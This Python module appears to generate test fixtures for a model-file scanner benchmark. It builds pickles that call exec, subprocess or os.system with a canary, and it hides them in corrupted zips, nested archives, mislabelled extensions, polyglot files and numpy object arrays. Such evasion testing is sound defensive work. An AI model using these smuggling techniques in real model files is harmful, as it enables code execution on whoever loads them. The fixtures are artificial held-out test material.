"""Round 7, C01 to C07: payloads in, behind and before containers."""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zlib
from collections.abc import Iterator

import numpy as np

from held_out.seventh_asm import CANARY, CMD, PY, Loaded, call, emit, pickled
from held_out.seventh_zip import Part, archive

DO = b"cbuiltins\nexec\n(V" + PY.encode() + b"\ntR"
EVIL = b"\x80\x02" + DO + b"."


def make(category: str, name: str, data: bytes, loader: str) -> Loaded:
    return Loaded(category, name, {name: data}, loader)


def torch_parts(pkl: bytes, top: bytes = b"archive") -> list[Part]:
    return [
        Part(top + b"/data.pkl", pkl),
        Part(top + b"/byteorder", b"little"),
        Part(top + b"/data/0", bytes(16)),
        Part(top + b"/version", b"3\n"),
    ]


def torch_zips() -> Iterator[Loaded]:
    yield make("C01_torch_zip", "stored_reordered.pt", archive(torch_parts(EVIL)[::-1]), "torch")
    deflated = torch_parts(
        pickled({"state_dict": {}, "hook": call("subprocess:call", ["touch", CANARY])})
    )
    deflated[0].method = 8
    yield make("C01_torch_zip", "deflated_named_top.pth", archive(deflated), "torch")
    yield make(
        "C01_torch_zip",
        "only_pickle_and_version.ckpt",
        archive([torch_parts(EVIL, b"xy")[0], Part(b"xy/version", b"3")]),
        "torch",
    )
    aligned = torch_parts(EVIL)
    aligned[0].local_extra = b"FB\x11\x00" + b"Z" * 17
    yield make("C01_torch_zip", "padded_pytorch_model.bin", archive(aligned), "torch")


def corrupt() -> Iterator[Loaded]:
    def change(
        label: str, loader: str = "torch", index: int = 0, method: int = 0, **fields: object
    ) -> Loaded:
        outer = {k[4:]: v for k, v in fields.items() if k.startswith("zip_")}
        parts = torch_parts(EVIL)
        parts[index].method = method
        for key, value in fields.items():
            if not key.startswith("zip_"):
                setattr(parts[index], key, value)
        return make("C02_zip_corrupt", f"{label}.pt", archive(parts, **outer), loader)  # type: ignore[arg-type]

    yield change("upper_case", name=b"archive/DATA.PKL")
    yield change("local_name_text", local_name=b"archive/README.md")
    yield change("local_method_lies", local_method=12)
    yield change("local_flags_encrypted", local_flags=1)
    yield change("local_crc_lies", local_crc=1)
    yield change("local_sizes_zero", local_sizes=0)
    yield change("deflate_utf8_flag", method=8, flags=0x800)
    yield change("descriptor_deflate", method=8, descriptor=True)
    yield change("descriptor_stored", descriptor=True)
    yield change("comment_is_zip", zip_comment=archive([Part(b"a.txt", b"fine")], directory=False))
    yield change("member_comment", comment=b"PK\5\6" + bytes(18))
    yield change("zip64_end", zip_zip64=True)
    yield change("reverse_directory", zip_reverse=True)
    yield change("version_needed_90", version=90)
    yield change("made_by_vms", made_by=0x0264, attributes=0x20)
    yield change("unix_attributes", attributes=0x89ED0021, made_by=0x031E)
    yield change("gap_before", gap=b"PK\3\4" + bytes(26))
    yield change(
        "hidden_local", gap=archive([Part(b"archive/data.pkl", pickled({}, 2))], directory=False)
    )
    yield change("between_body_and_directory", zip_between=bytes(77))
    yield change(
        "long_extra", extra=b"\x99\x99\xf0\x00" + bytes(240), local_extra=b"\x77\x77\x04\x00abcd"
    )
    yield change("unlisted_member", "local", in_directory=False)
    yield change("no_directory", "local", zip_directory=False)
    yield change("count_lies", "local", zip_count=0)
    yield change("trailing_end", "zipped", zip_suffix=b"\n" * 9)
    twice = torch_parts(pickled({"a": 1}, 2))
    yield make(
        "C02_zip_corrupt",
        "second_wins.pt",
        archive([*twice, Part(b"archive/data.pkl", EVIL)]),
        "zipped",
    )
    yield make(
        "C02_zip_corrupt",
        "case_twins.pt",
        archive([Part(b"archive/Data.pkl", EVIL), *torch_parts(EVIL)]),
        "torch",
    )
    yield make(
        "C02_zip_corrupt", "crc_both.zip", archive([Part(b"model.pkl", EVIL, crc=7)]), "local"
    )
    yield make(
        "C02_zip_corrupt", "nul_in_name.zip", archive([Part(b"model.txt\0.pkl", EVIL)]), "zipped"
    )


def tarred(files: dict[str, bytes], mode: str = "w", form: int = tarfile.GNU_FORMAT) -> bytes:
    box = io.BytesIO()
    with tarfile.open(fileobj=box, mode=mode, format=form) as tar:  # type: ignore[call-overload]
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    data = box.getvalue()
    if data[:2] == b"\x1f\x8b":  # gzip's time of writing
        data = data[:4] + bytes(4) + data[8:]
    return data


def zipped(files: dict[str, bytes], method: int = 8) -> bytes:
    return archive([Part(n.encode(), d, method) for n, d in files.items()])


def nested() -> Iterator[Loaded]:
    model = archive(torch_parts(EVIL))
    config = json.dumps({"model": "x"}).encode()
    box = io.BytesIO()
    np.savez(box, a=np.ones(2))
    table = {
        "tar_of_gz.tar": tarred({"m/model.pkl.gz": gzip.compress(EVIL, mtime=0)}),
        "tar_pax_xz.tar.xz": tarred({"ü/model.pkl": EVIL}, "w:xz", tarfile.PAX_FORMAT),
        "tar_bz2.tbz2": tarred({"README": b"hello", "weights.joblib": EVIL}, "w:bz2"),
        "zip_tar_gz_pickle.zip": zipped(
            {"a.tar": tarred({"b.pkl.gz": gzip.compress(EVIL, mtime=0)})}
        ),
        "zip_of_npz.zip": zipped({"arrays.npz": zipped({"x.npy": objects(EVIL)})}),
        "zip_of_torch.zip": zipped({"config.json": config, "pytorch_model.bin": model}, 0),
        "zip_bz2_member.zip": archive([Part(b"model.pkl", EVIL, 12, raw=bz2.compress(EVIL))]),
        "zip_lzma_member.zip": lzma_member(EVIL),
        "mixed.nemo": tarred(
            {"./model_config.yaml": b"target: x\n", "./model_weights.ckpt": model}
        ),
        "deep_tar.tar": tarred(
            {"1.tar": tarred({"2.tar": tarred({"3.tar": tarred({"m.pkl": EVIL})})})}
        ),
        "xz_in_zip_in_tar.tar": tarred({"a.zip": zipped({"b.pkl.xz": lzma.compress(EVIL)})}),
        "gz_of_zip.zip.gz": gzip.compress(zipped({"model.pkl": EVIL}), mtime=0),
        "keras_with_pickle.zip": zipped(
            {"model.keras": zipped({"config.json": config, "assets/vocab.pkl": EVIL})}
        ),
        "hidden_dotfile.zip": zipped({".cache/.m": EVIL, "model.json": config}),
    }
    for name, data in table.items():
        yield make("C03_nested", name, data, "unpack")


def lzma_member(data: bytes) -> bytes:
    filters = [{"id": lzma.FILTER_LZMA1, "lc": 3, "lp": 0, "pb": 2, "dict_size": 1 << 16}]
    raw = lzma.compress(data, lzma.FORMAT_RAW, filters=filters)
    return archive(
        [
            Part(
                b"model.pkl",
                data,
                14,
                raw=struct.pack("<2BH", 9, 4, 5) + struct.pack("<BI", 93, 1 << 16) + raw,
            )
        ]
    )


def compressed() -> Iterator[Loaded]:
    packer = zlib.compressobj(0, zlib.DEFLATED, -15)
    stored = packer.compress(EVIL) + packer.flush()
    trailer = struct.pack("<2I", zlib.crc32(EVIL), len(EVIL))
    named = (
        b"\x1f\x8b\x08\x1c"
        + bytes(4)
        + b"\x02\xff"
        + b"\x06\x00ab\x02\x00hi"
        + b"weights.json\0"
        + b"safe\0"
    )
    summed = b"\x1f\x8b\x08\x02" + bytes(4) + b"\x00\x03"
    summed += struct.pack("<H", zlib.crc32(summed) & 0xFFFF)
    half = len(EVIL) // 2
    delta = [{"id": lzma.FILTER_DELTA, "dist": 3}, {"id": lzma.FILTER_LZMA2, "preset": 1}]
    bcj = [{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2, "preset": 0}]
    filler = pickled({"w": list(range(400))}, 2)[:-1]
    table: dict[str, tuple[bytes, str]] = {
        "gz_stored_block.pkl.gz": (summed[:3] + b"\0" + summed[4:10] + stored + trailer, "pandas"),
        "gz_all_fields.pkl.gz": (named + stored + trailer, "joblib"),
        "gz_header_crc.joblib": (summed + stored + trailer, "joblib"),
        "gz_two_members.pkl.gz": (
            gzip.compress(EVIL[:half], mtime=0) + gzip.compress(EVIL[half:], mtime=0),
            "pandas",
        ),
        "gz_empty_first.pkl.gz": (
            gzip.compress(b"", mtime=0) + gzip.compress(EVIL, mtime=0),
            "pandas",
        ),
        "gz_no_trailer.pkl.gz": (named + stored, "gzip"),
        "bz2_two_streams.pkl.bz2": (
            bz2.compress(EVIL[:9], 1) + bz2.compress(EVIL[9:], 9),
            "joblib",
        ),
        "bz2_plain.pkl.bz2": (bz2.compress(EVIL, 3), "pandas"),
        "xz_delta.pkl.xz": (lzma.compress(EVIL, filters=delta), "pandas"),
        "xz_x86.joblib": (lzma.compress(EVIL, filters=bcj), "joblib"),
        "xz_sha256.joblib": (lzma.compress(EVIL, check=lzma.CHECK_SHA256), "joblib"),
        "xz_two_streams.pkl.xz": (lzma.compress(EVIL[:7]) + lzma.compress(EVIL[7:]), "pandas"),
        "lzma_alone.joblib": (lzma.compress(EVIL, lzma.FORMAT_ALONE), "joblib"),
        "zlib_stored.pkl": (zlib.compress(EVIL, 0), "joblib"),
        "zlib_filler_first.joblib": (zlib.compress(filler + b"0" + DO + b".", 1), "joblib"),
        "zip_of_pickle.pkl.zip": (zipped({"df": EVIL}), "pandas"),
        "tar_of_pickle.pkl.tar": (tarred({"df": EVIL}), "pandas"),
        "tgz_of_pickle.pkl.tar.gz": (tarred({"df": EVIL}, "w:gz"), "pandas"),
        "gz_in_gz.pkl.gz": (gzip.compress(gzip.compress(EVIL, mtime=0), mtime=0), "unpack"),
        "gz_of_torch.pt.gz": (gzip.compress(archive(torch_parts(EVIL)), mtime=0), "unpack"),
    }
    for name, (data, loader) in table.items():
        yield make("C04_compress", name, data, loader)


def extensions() -> Iterator[Loaded]:
    model = archive(torch_parts(EVIL))
    for name, data, loader in (
        ("model.safetensors", EVIL, "joblib"),
        ("weights.json", EVIL, "joblib"),
        ("tokenizer.model", model, "torch"),
        ("array.npy", EVIL, "numpy"),
        ("training_args.bin", model, "torch"),
        ("optimizer.txt", zlib.compress(EVIL), "joblib"),
        ("MODEL", DO + b".", "pickle"),
        ("vocab.csv", DO + b".", "joblib"),
    ):
        yield make("C05_extension", name, data, loader)


def polyglots() -> Iterator[Loaded]:
    model = archive(torch_parts(EVIL))
    tail = b"0" + DO + b"."
    header = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(tail), len(tail))
    room = (0x56 - len(header) - 1) % 256
    header += b" " * room + b"\n"
    both = struct.pack("<Q", len(header)) + header + tail  # "V": a pickled text up to the newline
    gif = b"GIF89a" + struct.pack("<2H3B", 0x3031, 0x3030, 0, 0, 0)
    gif = gif[:9] + tail + gif[9:]
    onnx = b"\x4a" + bytes([0xFF, 0x01, 65, 66]) + tail
    onnx += b"\0" * (0xFF - (len(onnx) - 3)) + b"\x08\x09"
    entry = tarred({"cbuiltins\nexec\n(V" + PY + "\ntR.": b"hello"})
    csv = b"Value,label\n0" + DO + b".\n1,2\n"
    version = b"Version: 1.0\n0" + DO + b".\nname: model\n"
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(
        ">I4s2I5BI", 13, b"IHDR", 1, 1, 8, 0, 0, 0, 0, 0x3A7E9B55
    )
    fine = pickled({"w": [1.0]}, 2)
    safe = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    table: dict[str, tuple[bytes, str]] = {
        "safetensors_pickle.bin": (both, "torch"),
        "safetensors_pickle.pkl": (both, "pickle"),
        "safetensors_joblib.joblib": (both, "joblib"),
        "gif_pickle.pkl": (gif, "pickle"),
        "onnx_pickle.pkl": (onnx, "pickle"),
        "tar_name_pickle.pkl": (entry, "pickle"),
        "csv_pickle.p": (csv, "pickle"),
        "yaml_pickle.dat": (version, "pickle"),
        "png_zip.png": (png + model, "torchzip"),
        "pickle_then_torch.pkl": (EVIL + model, "pickle"),
        "fine_pickle_then_torch.pt": (fine + model, "zipped"),
        "gzip_then_torch.pkl.gz": (gzip.compress(EVIL, mtime=0) + model, "gzip"),
        "safetensors_then_zip.safetensors": (
            struct.pack("<Q", len(safe)) + safe + bytes(4) + model,
            "zipped",
        ),
        "json_then_zip.json": (
            b'{"a": 1}\n' + archive(torch_parts(EVIL), prefix=b'{"a": 1}\n')[9:],
            "zipped",
        ),
        "pdf_zip.pdf": (archive([Part(b"m.pkl", EVIL)], prefix=b"%PDF-1.4\n%%EOF\n"), "zipped"),
        "zip_in_tar_tail.tar": (tarred({"a.txt": b"fine"}) + model, "zipped"),
        "torch_with_pickle_comment.pt": (archive(torch_parts(EVIL), comment=EVIL), "torch"),
        "npy_then_pickle.npy": (plain() + EVIL, "after_npy"),
        "npz_as_torch.npz": (
            archive([*torch_parts(EVIL), Part(b"archive/x.npy", plain())]),
            "torch",
        ),
        "zip_empty_then_zip.zip": (archive([]) + archive([Part(b"m.pkl", EVIL)]), "zipped"),
    }
    for name, (data, loader) in table.items():
        yield make("C06_polyglot", name, data, loader)


def plain() -> bytes:
    box = io.BytesIO()
    np.save(box, np.arange(6))
    return box.getvalue()


def objects(evil: bytes, head: bytes = b"", version: int = 1) -> bytes:
    head = head or b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    form, skip = ("<H", 10) if version == 1 else ("<I", 12)
    head += b" " * ((-skip - len(head) - 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(form, len(head)) + head + evil


def numpys() -> Iterator[Loaded]:
    shuffled = b"{'shape': (), 'descr': 'O', 'fortran_order': True}"
    fields = b"{'descr': [('a', '<f4'), ('b', '|O', (2,))], 'fortran_order': False, 'shape': (1,)}"
    inner = b"{'descr': [('a', [('b', '|O8')])], 'fortran_order': False, 'shape': (0,)}"
    aligned = b"{'descr': [(('title', 'a'), 'O')], 'fortran_order': False, 'shape': (1, 1)}"
    table: dict[str, tuple[bytes, str]] = {
        "scalar_shuffled.npy": (objects(EVIL, shuffled), "numpy"),
        "version2.npy": (objects(EVIL, version=2), "numpy"),
        "version3.npy": (objects(EVIL, version=3), "numpy"),
        "field_subarray.npy": (objects(EVIL, fields), "numpy"),
        "empty_nested_field.npy": (objects(EVIL, inner), "numpy"),
        "titled_field.npy": (objects(EVIL, aligned), "numpy"),
        "member_without_npy.npz": (zipped({"x.npy": plain(), "y": objects(EVIL)}), "npz"),
        "deflated_v2.npz": (zipped({"x.npy": objects(EVIL, version=2)}), "npz"),
        "descriptor.npz": (archive([Part(b"x.npy", objects(EVIL), 8, descriptor=True)]), "npz"),
        "bz2_member.npz": (
            archive(
                [
                    Part(
                        b"x.npy",
                        b"",
                        12,
                        raw=bz2.compress(objects(EVIL)),
                        crc=zlib.crc32(objects(EVIL)),
                        size=len(objects(EVIL)),
                    )
                ]
            ),
            "npz",
        ),
        "folder_member.npz": (
            zipped(
                {"a/b/arr_0.npy": objects(b"\x80\x04" + emit(call("os:system", CMD), 4) + b".")}
            ),
            "npz",
        ),
        "prefixed.npz": (
            archive([Part(b"x.npy", objects(EVIL))], prefix=b"#!/bin/true\n"),
            "zipped",
        ),
    }
    for name, (data, loader) in table.items():
        yield make("C07_numpy", name, data, loader)
